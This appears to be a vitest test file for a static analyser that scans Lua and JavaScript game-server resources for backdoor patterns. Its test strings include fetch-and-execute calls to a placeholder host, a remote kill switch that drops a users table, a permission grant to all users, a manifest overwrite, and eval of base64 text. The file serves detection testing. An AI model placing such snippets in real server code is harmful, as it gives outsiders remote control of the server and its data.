import { expect, test } from 'vitest'

import { analyseProgram } from '#analysis/program.ts'
import { codeRules } from '#analysis/rules/all.ts'

function findingsOf(language: 'lua' | 'js', text: string) {
  const file = { path: `a.${language}`, text, side: 'server', resource: 'own', isLoaded: true } as const
  const [result] = analyseProgram([{ ...file, language: language === 'lua' ? 'lua' : 'javascript' }])
  return result?.findings ?? []
}

test.each([
  [
    'lua',
    'runs-text-from-outside',
    `PerformHttpRequest('https://a.example', function(_, t) os.execute(t) end)`,
  ],
  ['lua', 'remote-switch', `PerformHttpRequest('https://a.example', function(_, t) os.exit() end)`],
  [
    'lua',
    'remote-switch',
    `PerformHttpRequest('https://a.example', function(_, t) MySQL.query('DROP TABLE users') end)`,
  ],
  ['js', 'writes-code', `SaveResourceFile('chat', 'fxmanifest.lua', text, -1)`],
  [
    'js',
    'runs-downloaded-code',
    `fetch('https://a.example').then((r) => r.text()).then((t) => (() => {}).constructor(t)())`,
  ],
  [
    'js',
    'runs-text-from-outside',
    `onNet('a', async (t) => { await import('data:text/javascript,' + encodeURIComponent(t)) })`,
  ],
  // The rule of the higher severity, though another one names what is run.
  ['js', 'global-by-text', `(() => {}).constructor(code)()`],
] as const)('in %s an act has the finding %s alone: %s', (language, rule, text) => {
  expect(findingsOf(language, text).map((finding) => finding.rule)).toEqual([rule])
})

test.each([
  [
    'lua',
    ['grants-rights', 'runs-downloaded-code'],
    `PerformHttpRequest('https://a.example', function(_, t) load(t)() end) ExecuteCommand('add_ace group.user command allow')`,
  ],
  ['js', ['hidden-text', 'runs-computed-code'], `eval(text); eval(atob('Y29uc29sZS5sb2coMSkgLy8gdGV4dA=='))`],
] as const)('in %s two acts on one line have their findings %j: %s', (language, names, text) => {
  expect(new Set(findingsOf(language, text).map(({ rule }) => rule))).toEqual(new Set(names))
})

test('no example has two findings of one act', () => {
  for (const { examples } of codeRules)
    for (const { language, text } of examples?.found ?? []) {
      const acts = findingsOf(language, text.replaceAll(/^\^/gm, '')).flatMap(({ act }) => act ?? [])
      expect([text, acts]).toEqual([text, [...new Set(acts)]])
    }
})
